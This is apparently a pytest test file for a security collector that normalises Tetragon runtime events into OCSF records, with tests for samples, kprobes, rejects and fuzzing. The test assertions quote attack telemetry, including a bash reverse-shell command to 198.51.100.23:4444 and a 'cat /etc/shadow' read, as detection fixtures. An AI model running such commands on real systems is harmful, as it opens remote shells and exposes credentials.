"""Tetragon JSON export -> Process Activity (exec, exit), File System and Network Activity.

Every recorded sample under samples/tetragon/ must become the event it describes, valid by
OCSF's own schema; protobuf JSON's numbers-as-strings give equal events; no other source's
sample is claimed; and no input makes the adapter raise, hang or emit invalid OCSF.
"""

from __future__ import annotations

import copy
import json
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from collectors import tetragon
from collectors.base import Context
from collectors.model import FileActivity, NetworkActivity, OcsfEvent, ProcessActivity
from collectors.workload import workload_of
from tests.collectors.conftest import ACCOUNT, FUZZ, JSON, REGION, SAMPLES, assert_valid
from tests.collectors.test_falco import (
    CTX,
    check,
    comparable,
    mutate,
    numbers_to_strings,
    other_samples,
    own_samples,
    records_of,
    strings_to_numbers,
)

SAMPLES_TETRAGON = own_samples("tetragon")
EXPORT = records_of(SAMPLES / "tetragon" / "tetragon-1.4-json-export.jsonl")
NODE = "ip-10-0-1-23.eu-west-1.compute.internal"
POD = "k8s-pod:payments/payments-api-7d9f8c6b5-x2x7q"


def key_of(event: OcsfEvent) -> str | None:
    w = workload_of(getattr(event, "device", None), ACCOUNT)
    return w.key if w else None


def one(record: Any, ctx: Context = CTX) -> Any:
    batch = tetragon.normalize(record, ctx)
    assert not batch.rejects, batch.rejects
    (event,) = batch.events
    assert_valid([event])
    return event


@pytest.mark.parametrize(("name", "record"), SAMPLES_TETRAGON, ids=[n for n, _ in SAMPLES_TETRAGON])
def test_every_sample_is_recognised_and_normalises_to_valid_ocsf(name: str, record: Any) -> None:
    assert tetragon.matches(record)
    assert tetragon.matches(json.dumps(record))
    batch = tetragon.normalize(record, CTX)
    assert not batch.rejects, batch.rejects
    assert len(batch.events) + batch.skipped == 1
    assert_valid(batch)
    for event in batch.events:
        assert event.raw_data and json.loads(event.raw_data) == record
        assert event.metadata.product.name == "Tetragon"
        assert event.metadata.original_time == record["time"]
        assert event.cloud.account is not None and event.cloud.account.uid == ACCOUNT


OTHERS = other_samples("tetragon")


@pytest.mark.parametrize(("name", "record"), OTHERS, ids=[n for n, _ in OTHERS])
def test_other_sources_samples_are_not_claimed(name: str, record: Any) -> None:
    assert not tetragon.matches(record)


def test_exec_of_a_shell_in_a_pod() -> None:
    shell = one(EXPORT[0])
    assert isinstance(shell, ProcessActivity) and shell.activity_id == ProcessActivity.LAUNCH
    assert key_of(shell) == POD
    assert shell.device.hostname == NODE
    container = shell.device.container
    assert container is not None and container.uid is not None
    assert container.uid.startswith("8f2c5e7a1b3d")  # the runtime prefix is not the id
    assert container.image is not None and container.image.uid is not None
    assert container.image.uid.endswith(
        "@sha256:4f1c2e9d8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b3a2f1e"
    )
    assert shell.process.cmd_line == "/usr/bin/bash"
    assert shell.process.uid == EXPORT[0]["process_exec"]["process"]["exec_id"]
    assert shell.process.namespace_pid == 7
    assert shell.actor.process is not None and shell.actor.process.cmd_line == "/usr/bin/runc init"
    assert shell.launch_type_id == 1  # clone + execve
    assert shell.time == 1762161247512


def test_read_of_etc_shadow_and_the_exit_that_follows() -> None:
    launch, read, exit_ = (one(r) for r in EXPORT[1:4])
    assert launch.process.cmd_line == "/usr/bin/cat /etc/shadow"
    assert isinstance(read, FileActivity) and read.activity_id == FileActivity.READ  # MAY_READ
    assert read.file.path == "/etc/shadow" and read.file.parent_folder == "/etc"
    assert read.status_id == 1  # the hook returned 0
    assert read.actor.process is not None and read.actor.process.pid == 48213
    assert read.unmapped is not None
    assert read.unmapped["policy_name"] == "file-monitoring-filtered"
    assert isinstance(exit_, ProcessActivity) and exit_.activity_id == ProcessActivity.TERMINATE
    assert exit_.exit_code == 0  # protobuf JSON leaves a zero status out
    assert exit_.process.terminated_time == exit_.time
    assert key_of(read) == key_of(exit_) == POD


def test_connections_to_the_metadata_service_and_a_reverse_shell() -> None:
    imds = one(EXPORT[4])
    assert isinstance(imds, NetworkActivity) and imds.activity_id == NetworkActivity.OPEN
    assert imds.dst_endpoint is not None and imds.src_endpoint is not None
    assert (imds.dst_endpoint.ip, imds.dst_endpoint.port) == ("169.254.169.254", 80)
    assert (imds.src_endpoint.ip, imds.src_endpoint.port) == ("10.0.1.57", 39812)
    assert imds.connection_info is not None
    assert imds.connection_info.direction_id == 2 and imds.connection_info.protocol_num == 6
    assert imds.metadata.labels == ["observability.network"]

    launch, shell = one(EXPORT[5]), one(EXPORT[6])
    assert (
        launch.process.cmd_line == '/usr/bin/bash -c "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"'
    )
    assert launch.actor.process.name == "python3.12"
    assert shell.dst_endpoint is not None
    assert (shell.dst_endpoint.ip, shell.dst_endpoint.port) == ("198.51.100.23", 4444)
    assert shell.actor.process.uid == launch.process.uid  # the same exec_id


def test_a_write_to_cron_d_by_a_host_process() -> None:
    cron = one(EXPORT[7])
    assert isinstance(cron, FileActivity) and cron.activity_id == FileActivity.UPDATE
    assert cron.file.path == "/etc/cron.d/0anacron-sync"
    assert key_of(cron) == f"host:{NODE}"  # no pod: the node
    assert cron.device.container is None


def test_an_enforced_kill_of_a_miner() -> None:
    pool, killed = one(EXPORT[8]), one(EXPORT[9])
    assert isinstance(pool, NetworkActivity)
    assert pool.dst_endpoint is not None and pool.dst_endpoint.port == 3333
    assert (pool.action_id, pool.disposition_id) == (2, 2)  # Denied, Blocked
    assert "security_control" in pool.metadata.profiles
    assert key_of(pool) == "k8s-pod:analytics/reports-worker-5c7d9-kq2lp"
    assert isinstance(killed, ProcessActivity)
    assert killed.exit_code is None and killed.status_detail == "SIGKILL"


def test_benign_exec_probe_and_exit_codes() -> None:
    probe, probe_exit, curl_exit = (one(r) for r in EXPORT[10:13])
    assert probe.unmapped is not None and probe.unmapped["maybe_exec_probe"] is True
    assert probe_exit.exit_code == 0
    assert curl_exit.exit_code == 6


def test_unmapped_event_types_are_skipped_and_counted() -> None:
    batch = tetragon.normalize(EXPORT[13], CTX)
    assert (batch.events, batch.rejects, batch.skipped) == ([], [], 1)


def test_numbers_as_strings_give_equal_events() -> None:
    for name, record in SAMPLES_TETRAGON:
        as_numbers = tetragon.normalize(strings_to_numbers(record), CTX)
        as_strings = tetragon.normalize(numbers_to_strings(record), CTX)
        assert not as_numbers.rejects and not as_strings.rejects, name
        assert [comparable(e) for e in as_numbers.events] == [
            comparable(e) for e in as_strings.events
        ], name


def kprobe(function: str, args: list[dict[str, Any]], **extra: Any) -> dict[str, Any]:
    record = copy.deepcopy(EXPORT[2])
    body = record["process_kprobe"]
    body.pop("return", None)
    body.update(function_name=function, args=args, **extra)
    return record


FILE = {"file_arg": {"path": "/etc/passwd", "permission": "-rw-r--r--"}}


@pytest.mark.parametrize(
    ("function", "args", "activity"),
    [
        ("security_file_permission", [FILE, {"int_arg": 2}], FileActivity.UPDATE),
        ("security_file_permission", [FILE, {"int_arg": 8}], FileActivity.UPDATE),
        ("security_file_permission", [FILE, {"int_arg": 1}], FileActivity.OPEN),
        ("fd_install", [{"int_arg": 3}, FILE], FileActivity.OPEN),
        ("__x64_sys_write", [FILE, {"size_arg": "12"}], FileActivity.UPDATE),
        ("__arm64_sys_read", [FILE, {"size_arg": "12"}], FileActivity.READ),
        (
            "security_path_unlink",
            [{"path_arg": {"path": "/var/log/auth.log"}}],
            FileActivity.DELETE,
        ),
        (
            "security_path_truncate",
            [{"path_arg": {"path": "/var/log/auth.log"}}],
            FileActivity.UPDATE,
        ),
        (
            "__x64_sys_openat",
            [{"int_arg": -100}, {"string_arg": "/etc/cron.d/x"}, {"int_arg": 0o101}],
            FileActivity.CREATE,
        ),
        (
            "__x64_sys_openat",
            [{"int_arg": -100}, {"string_arg": "/etc/shadow"}, {"int_arg": 0}],
            FileActivity.READ,
        ),
        ("security_inode_setxattr", [FILE], 99),
    ],
)
def test_file_kprobes(function: str, args: list[dict[str, Any]], activity: int) -> None:
    event = one(kprobe(function, args))
    assert isinstance(event, FileActivity)
    assert event.activity_id == activity


def test_a_rename_keeps_both_names() -> None:
    event = one(
        kprobe(
            "security_path_rename",
            [{"path_arg": {"path": "/tmp/x"}}, {"path_arg": {"path": "/usr/bin/ls"}}],
        )
    )
    assert event.activity_id == FileActivity.RENAME
    assert (event.file.path, event.file_result.path) == ("/tmp/x", "/usr/bin/ls")


def test_a_denied_hook_is_a_failure() -> None:
    event = one(
        kprobe(
            "security_file_open",
            [FILE],
            **{"return": {"int_arg": -13}, "action": "KPROBE_ACTION_OVERRIDE"},
        )
    )
    assert event.status_id == 2 and event.status_detail == "returned -13"
    assert event.disposition_id == 2


@pytest.mark.parametrize(
    ("function", "args", "ret", "expect"),
    [
        (
            "security_socket_connect",
            [
                {"sock_arg": {"family": "AF_INET", "protocol": "IPPROTO_UDP"}},
                {"sockaddr_arg": {"family": "AF_INET", "addr": "169.254.169.254", "port": 53}},
            ],
            None,
            (1, 2, None, ("169.254.169.254", 53)),
        ),
        (
            "inet_csk_accept",
            [],
            {
                "sock_arg": {
                    "family": "AF_INET6",
                    "saddr": "::ffff:10.0.1.57",
                    "sport": 22,
                    "daddr": "::ffff:203.0.113.9",
                    "dport": 50211,
                }
            },
            (1, 1, ("203.0.113.9", 50211), ("10.0.1.57", 22)),
        ),
        (
            "tcp_close",
            [{"sock_arg": {"saddr": "10.0.1.57", "sport": 1, "daddr": "10.0.9.9", "dport": 443}}],
            None,
            (2, 0, ("10.0.1.57", 1), ("10.0.9.9", 443)),
        ),
        (
            "security_socket_bind",
            [{"sock_arg": {}}, {"sockaddr_arg": {"addr": "0.0.0.0", "port": 8080}}],
            None,
            (7, 0, None, ("0.0.0.0", 8080)),
        ),
        (
            "ip_output",
            [{"skb_arg": {"saddr": "10.0.1.57", "daddr": "198.51.100.9", "sport": 5, "dport": 6}}],
            None,
            (6, 0, ("10.0.1.57", 5), ("198.51.100.9", 6)),
        ),
        (
            "my_probe",
            [{"sock_arg": {"saddr": "10.0.1.57", "daddr": "198.51.100.9"}}],
            None,
            (99, 0, ("10.0.1.57", None), ("198.51.100.9", None)),
        ),
    ],
)
def test_socket_kprobes(
    function: str, args: list[dict[str, Any]], ret: Any, expect: tuple[Any, ...]
) -> None:
    extra = {"return": ret} if ret else {}
    event = one(kprobe(function, args, **extra))
    assert isinstance(event, NetworkActivity)
    src = (event.src_endpoint.ip, event.src_endpoint.port) if event.src_endpoint else None
    dst = (event.dst_endpoint.ip, event.dst_endpoint.port) if event.dst_endpoint else None
    assert event.connection_info is not None
    assert (event.activity_id, event.connection_info.direction_id, src, dst) == expect


def test_kprobes_without_a_file_or_socket_are_skipped() -> None:
    for args in ([], [{"int_arg": 16}], [{"file_arg": {"path": ""}}]):
        batch = tetragon.normalize(kprobe("sys_ptrace", args), CTX)
        assert (batch.events, batch.rejects, batch.skipped) == ([], [], 1)


# --------------------------------------------------------------------------------------------
# Rejects


def without(record: dict[str, Any], *path: str) -> dict[str, Any]:
    record = copy.deepcopy(record)
    target = record
    for key in path[:-1]:
        target = target[key]
    del target[path[-1]]
    return record


@pytest.mark.parametrize(
    ("record", "reason"),
    [
        ("nope", "not JSON"),
        ([EXPORT[0]], "expected a JSON object"),
        ({"node_name": NODE, "time": EXPORT[0]["time"]}, "no Tetragon event"),
        ({**EXPORT[0], "process_exec": []}, "process_exec: expected an object"),
        (without(EXPORT[0], "process_exec", "process"), "no process"),
        (without(without(EXPORT[3], "time"), "process_exit", "time"), "no usable time"),
        (without(EXPORT[7], "node_name"), "no workload"),  # a host process, no node name
        (without(EXPORT[2], "process_kprobe", "function_name"), "no function_name"),
        (
            {**EXPORT[2], "process_kprobe": {**EXPORT[2]["process_kprobe"], "args": {"0": FILE}}},
            "args: expected a list",
        ),
        (
            {**EXPORT[2], "process_kprobe": {**EXPORT[2]["process_kprobe"], "args": [FILE] * 300}},
            "over the 256 limit",
        ),
        (
            {**EXPORT[0], "process_exec": {"process": {"binary": "/bin/sh"}}},
            "neither pid nor exec_id",
        ),
    ],
)
def test_unusable_records_are_rejected_with_a_reason(record: Any, reason: str) -> None:
    batch = check(tetragon.normalize(record, CTX))
    assert not batch.events
    assert len(batch.rejects) == 1
    assert reason in batch.rejects[0].reason, batch.rejects[0].reason


def test_an_exec_without_a_top_level_time_uses_the_start_time() -> None:
    event = one(without(EXPORT[0], "time"))
    assert event.time == 1762161247512


# --------------------------------------------------------------------------------------------
# Fuzz


@FUZZ
@given(st.one_of(JSON, st.text(max_size=300)))
def test_fuzz_arbitrary_json(value: Any) -> None:
    check(tetragon.normalize(value, CTX))
    tetragon.matches(value)


@FUZZ
@given(data=st.data())
def test_fuzz_mutated_samples(data: st.DataObject) -> None:
    _, record = data.draw(st.sampled_from(SAMPLES_TETRAGON))
    mutated = mutate(data, record)
    tetragon.matches(mutated)
    check(tetragon.normalize(mutated, CTX))


ARG_KEYS = [
    "file_arg",
    "path_arg",
    "sock_arg",
    "sockaddr_arg",
    "skb_arg",
    "int_arg",
    "string_arg",
    "size_arg",
]
ARG_VALUES = JSON | st.fixed_dictionaries(
    {},
    optional={
        "path": st.sampled_from(["/etc/x", "", "rel", "/"]) | JSON,
        "saddr": st.sampled_from(["10.0.0.1", "::1", "x"]) | JSON,
        "daddr": st.sampled_from(["10.0.0.2", "::ffff:1.2.3.4"]) | JSON,
        "dport": st.integers(-5, 70000) | JSON,
        "addr": st.sampled_from(["1.1.1.1"]) | JSON,
        "port": st.integers(-5, 70000) | JSON,
    },
)


@FUZZ
@given(
    st.sampled_from(
        ["tcp_connect", "security_file_permission", "__x64_sys_openat", "inet_csk_accept", "x"]
    ),
    st.lists(st.dictionaries(st.sampled_from(ARG_KEYS), ARG_VALUES, max_size=2), max_size=4),
    JSON,
)
def test_fuzz_kprobe_arguments(function: str, args: list[dict[str, Any]], ret: Any) -> None:
    record = kprobe(function, args, **{"return": ret})
    batch = check(tetragon.normalize(record, Context(account=ACCOUNT, region=REGION)))
    assert len(batch.events) + len(batch.rejects) + batch.skipped == 1
